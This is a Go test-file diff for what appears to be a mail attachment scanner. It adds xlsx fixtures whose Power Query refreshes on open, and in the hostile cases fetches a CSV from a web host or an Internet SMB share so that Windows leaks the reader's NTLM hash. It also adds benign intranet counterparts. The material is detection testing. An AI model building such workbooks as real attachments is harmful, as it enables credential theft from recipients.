@@ -102,7 +102,35 @@ func remoteRefCases() []officeCase {
 			data: docxOf(`<w:p><w:r><w:t>Logo</w:t></w:r></w:p>`+linkedPicture("rId7"),
 				`<Relationship Id="rId7" Type="`+officeRel+`/image" Target="file://`+leakHost+`/share/logo.png" TargetMode="External"/>`, "", nil),
 			wants: []relWant{{"heuristic", "remote-fetch", "/word/_rels/document.xml.rels"}}},
+		{name: "xlsx-power-query-web-on-open", about: "xlsx whose Power Query (M code in the DataMashup of customXml/item1.xml) loads a CSV from a web server into the sheet, its connection set to refresh as the workbook opens: the fetched cells can carry a DDE formula or a lure",
+			action: policy.Tag, subject: "Rates", body: "The current rates.\n", ctype: ctXlsx, file: "rates.xlsx",
+			data:  powerQueryWorkbook(`Source = Csv.Document(Web.Contents("https://rates.example.net/daily.csv"), [Delimiter=","])`, true),
+			wants: []relWant{{"heuristic", "power-query-fetch", mashupM}}},
+		{name: "xlsx-power-query-share-on-open", about: "xlsx whose Power Query reads a CSV from an SMB share on an Internet host, refreshed as the workbook opens: Windows sends the reader's NTLM hash",
+			action: policy.Tag, subject: "Stock list", body: "The stock list.\n", ctype: ctXlsx, file: "stock.xlsx",
+			data:  powerQueryWorkbook(`Source = Csv.Document(File.Contents("`+leakShare+`\stock.csv"), [Delimiter=","])`, true),
+			wants: []relWant{{"heuristic", "power-query-fetch", mashupM}}},
 	}
+}
+
+// mashupM is where a workbook's M code is, below the workbook.
+const mashupM = "/customXml/item1.xml/PackageParts.zip/Formulas/Section1.m"
+
+// powerQueryWorkbook is an xlsx with a Power Query named Rates whose let
+// expression is step (defining Source), as Excel saves it: the DataMashup
+// in customXml/item1.xml, a connection to the query in xl/connections.xml,
+// set to refresh when the workbook opens when onOpen.
+func powerQueryWorkbook(step string, onOpen bool) []byte {
+	m := "section Section1;\r\n\r\nshared Rates = let\r\n    " + step + "\r\nin\r\n    Source;"
+	refresh := ""
+	if onOpen {
+		refresh = ` refreshOnLoad="1"`
+	}
+	conns := xmlHead + `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" keepAlive="1" name="Query - Rates" description="Connection to the 'Rates' query in the workbook." type="5" refreshedVersion="8" background="1" saveData="1"` + refresh + `>` +
+		`<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Rates;Extended Properties=&quot;&quot;" command="SELECT * FROM [Rates]"/></connection></connections>`
+	return xlsxOf([][]string{{"Item", "Value"}}, nil, "",
+		docxPart{name: "customXml/item1.xml", relType: officeRel + "/customXml", relID: "rId5", data: formats.DataMashup(m)},
+		docxPart{name: "xl/connections.xml", ctype: "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", relType: officeRel + "/connections", relID: "rId6", data: []byte(conns)})
 }
 
 func remoteRefSamples() []Sample {
@@ -167,6 +195,12 @@ func remoteRefSamples() []Sample {
 					`<draw:image xlink:href="file://`+leakHost+`/share/logo.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text>`)))})
 
 	// The honest twins.
+	add(ok("xlsx-power-query-intranet", "a colleague's workbook whose Power Query reads a CSV from the intranet file server, refreshed by hand (no refresh on open)"),
+		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Rates", root: multipart("mixed", text("The rates workbook; refresh it to get today's figures.\n"),
+			attach(ctXlsx, "rates.xlsx", powerQueryWorkbook(`Source = Csv.Document(File.Contents("\\fileserver\finance\rates.csv"), [Delimiter=","])`, false)))})
+	add(ok("xlsx-power-query-intranet-on-open", "a colleague's workbook whose Power Query reads the intranet file server and refreshes as it opens"),
+		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Stock", root: multipart("mixed", text("The stock workbook; it updates itself.\n"),
+			attach(ctXlsx, "stock.xlsx", powerQueryWorkbook(`Source = Csv.Document(File.Contents("\\fileserver.corp\finance\stock.csv"), [Delimiter=","])`, true)))})
 	add(ok("text-intranet-path", "a colleague's plain-text mail naming a report on the file server (\\\\fileserver\\finance\\...)"),
 		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Q3 report",
 			root: text("Hi Kenji,\n\nthe Q3 report is on the file server: \\\\fileserver\\finance\\2026\\Q3\\report.xlsx\nand the old ones under file://fileserver/finance/archive/.\n\nAiko\n")})
